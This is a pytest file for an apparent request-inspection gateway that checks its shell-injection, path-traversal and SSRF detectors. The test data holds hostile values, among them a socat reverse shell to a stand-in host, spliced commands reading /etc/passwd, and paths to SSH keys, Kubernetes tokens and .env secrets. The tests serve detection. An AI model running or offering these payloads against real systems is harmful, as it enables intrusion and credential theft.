"""Issue 12, the twelfth data round (fray's wordlists and LLM lists, raginject's RAG documents), on generators of our
own wording, each with look-alikes and a hostile 64 KiB input.

- Command splices the shell rule did not know: a command then a shell comment ("; id # ..."), recon commands that
  are also English words with an option or a path ("; find / -name x", "; grep -r pass /etc"), a command with a
  subcommand ("; ps aux", "& reg query HKLM"), a dotted lookup ("; dig evil.example"), a name in ANSI-C quotes
  ("$'\\x69\\x64'") or a brace expansion ("{cat,/etc/passwd}"). Look-alikes: labels ("Build & Env"), SQL with
  back-quoted names ("`users` SET `x`"), a quoted pipeline in prose, "find 2 errors".
- File inclusion targets: another process's environment and maps, container secrets, SSH keys, shell histories, a
  dotenv file, as bare paths; PHP's other stream wrappers (zip://, glob://, compress.*://); a Windows drive path
  outside a tool's roots. SSRF: Consul's service DNS zone. Look-alikes: prose about SSH keys and dotenv files,
  ".env.example", paths under a drive root the tool allows.
"""

from __future__ import annotations

import itertools
import time
from collections.abc import Callable

import pytest

from gateway.inspect import code, ssrf, traversal
from gateway.inspect.base import Target
from tests.test_inspect_families import high


def _best(run: Callable[[], object]) -> float:
    best = 1.0
    for _ in range(3):
        t0 = time.perf_counter()
        run()
        best = min(best, time.perf_counter() - t0)
    return best


# ------------------------------------------------------------------ command splices
_HOSTS = ["example.org", "10.0.0.7", "report.pdf", "build-42"]
_SEPARATORS = [";", "; ", "|", "&&", "& ", "\n"]
_COMMANDS = [
    "id # CVE-2026-0001",
    "ls # probe",
    "find / -name '*.conf'",
    "grep -r password /etc",
    "tail -f /var/log/syslog",
    "timeout /t 5",
    "node -e 'require(\"os\")'",
    "java -jar payload.jar evil.example 4444",
    "awk 'BEGIN {print 1}'",
    "socat exec:sh tcp:evil.example:4444",
    "printenv",
    "ps aux",
    "reg query HKLM\\Software",
    "ip addr",
    "dig evil.example",
    "$'\\x69\\x64'",
    "$'\\151\\144'",
    "{id,}",
    "{cat,/etc/passwd}",
]


def spliced() -> list[str]:
    return [f"{h}{s}{c}" for h, s, c in itertools.product(_HOSTS, _SEPARATORS, _COMMANDS)]


# values an untagged tool takes that hold a separator and a word, and no command
SPLICE_LOOKALIKES = [
    "Build & Env",
    "Game & Set",
    "R&D; find 2 errors in the draft",
    "Logs; tail them later",
    "Trip; set 3 alarms",
    "UPDATE `filestore` SET `context` = 'enigma'",
    "UPDATE `users` SET `last_login` = NULL",
    "Use (grep-available --field=Provides irc | grep\n^Package) to list them",
    "Tom & Jerry; ip address is on the badge",
    "Q3; dig deeper into churn",
    "Read docs; find the FAQ",
    "notes | head office",
]


@pytest.mark.parametrize("value", spliced())
def test_spliced_command_is_found(value: str) -> None:
    assert "shell_injection:command_splice" in high({"host": value}), value


@pytest.mark.parametrize("value", ["report.pdf;env", "x.csv|set", "a;printenv"])
def test_environment_dump_at_the_value_end_is_found(value: str) -> None:
    assert "shell_injection:command_splice" in high({"filename": value}), value


@pytest.mark.parametrize("value", SPLICE_LOOKALIKES)
def test_separated_words_that_are_no_command_pass(value: str) -> None:
    assert not {k for k in high({"note": value}) if k.startswith("shell_injection:")}, value


def _shell_scan(text: str) -> Callable[[], object]:
    det = code.ShellDetector()
    return lambda: det.scan(Target(text[:65536], None, "request_arg", "/host", "host"))


@pytest.mark.parametrize(
    "text", ["; find x" * 8192, ";$'\\x69" * 9000, ";{cat," * 11000, "; dig a." * 8000, "; grep x" * 8192]
)
def test_splice_on_hostile_text_is_bounded(text: str) -> None:
    """Runs of a new alternative's opening that never completes: the shell gate (one Hyperscan pass) closes most."""
    assert _best(_shell_scan(text)) < 0.01


@pytest.mark.parametrize("text", ["; id #x" * 9400, "&& ps a" * 9000, "|set x" * 11000])
def test_dense_separators_cost_what_they_cost_before(text: str) -> None:
    """A separator every six or seven characters, each followed by a command that nearly completes: the splice is
    tried at each (~11,000 matches). That cost is the rule's, before this round (a text of the old vocabulary, "; ls
    x", costs the same on main: 15-18 ms here); the new alternatives, each behind a look at its first letters, add
    no more than half of it."""
    assert _best(_shell_scan(text)) < 1.5 * _best(_shell_scan("; ls x" * 11000))


# ------------------------------------------------------------------ file inclusion targets, wrappers, drives
INCLUDED = [
    "/proc/1/environ",
    "/proc/1234/maps",
    "/proc/thread-self/cmdline",
    "/run/secrets/db_password",
    "/var/run/secrets/kubernetes.io/serviceaccount/token",
    "/.dockerenv",
    "/home/dev/.ssh/id_ed25519",
    "/home/user/.ssh/authorized_keys",
    "/root/.ssh/known_hosts",
    "/home/user/.bash_history",
    "/var/lib/mysql/.mysql_history",
    "/app/.env",
    "/var/www/html/.env",
    "..%2f..%2fapp%2f.env",
]


@pytest.mark.parametrize("path", INCLUDED)
@pytest.mark.parametrize("key", ["name", "doc", "path"])
def test_inclusion_target_is_found(path: str, key: str) -> None:
    assert any(k.startswith("path_traversal:") for k in high({key: path})), path


@pytest.mark.parametrize(
    "value",
    [
        "How do I keep my .env out of git?",
        "config/.env.example",
        "docs/ssh-keys.md",
        "history/2024/report.pdf",
        "/srv/data/environment.csv",
        "reports/secrets-policy.pdf",
    ],
)
def test_paths_and_prose_about_them_pass(value: str) -> None:
    assert not {k for k in high({"path": value}) if k.startswith("path_traversal:")}, value


@pytest.mark.parametrize(
    "url",
    ["zip://shell.zip%23shell.php", "zip://./uploads/a.zip#b.php", "glob:///var/www/*", "compress.zlib:///etc/hosts",
     "compress.bzip2://../../x.bz2"],
)  # fmt: skip
def test_php_stream_wrappers_are_found(url: str) -> None:
    assert any(k.startswith("ssrf:scheme_") for k in high({"name": url})), url


@pytest.mark.parametrize(
    "path", ["C:\\xampp\\apache\\conf\\httpd.conf", "C:\\Users\\Administrator\\Desktop\\", "d:/backup/db.sql"]
)
def test_drive_path_outside_the_roots_is_found(path: str) -> None:
    assert "path_traversal:outside_allowed_roots" in high({"path": path}, allowed_roots=("/srv/data", "reports"))


@pytest.mark.parametrize("path", ["D:\\data\\q3.csv", "d:/DATA/sub/x.csv", "D:/data"])
def test_drive_path_under_a_drive_root_passes(path: str) -> None:
    assert not high({"path": path}, allowed_roots=("D:\\data",)), path


@pytest.mark.parametrize(
    "url", ["http://consul.service.consul:8500/v1/agent/members", "http://vault.service.dc1.consul/v1/sys/health"]
)
def test_consul_service_name_is_internal(url: str) -> None:
    assert "ssrf:internal_name" in high({"url": url}), url


@pytest.mark.parametrize("url", ["https://www.consul.io/docs", "https://consulting.example.com/"])
def test_public_names_about_consul_pass(url: str) -> None:
    assert not {k for k in high({"url": url}) if k.startswith("ssrf:")}, url


@pytest.mark.parametrize(
    "text",
    [
        "/proc/1" * 9400,
        "/.ssh/id_" * 7300,
        "/.env" * 13108,
        "zip://" * 10923,
        "C:\\" + "a\\" * 32767,
        "_history/" * 7300,
    ],
)
def test_path_rules_are_bounded(text: str) -> None:
    text = text[:65536]
    det = traversal.TraversalDetector()
    assert _best(lambda: det.scan(Target(text, None, "request_arg", "/path", "path", allowed_roots=("/srv",)))) < 0.01
    assert _best(lambda: ssrf.find_urls(text)) < 0.01
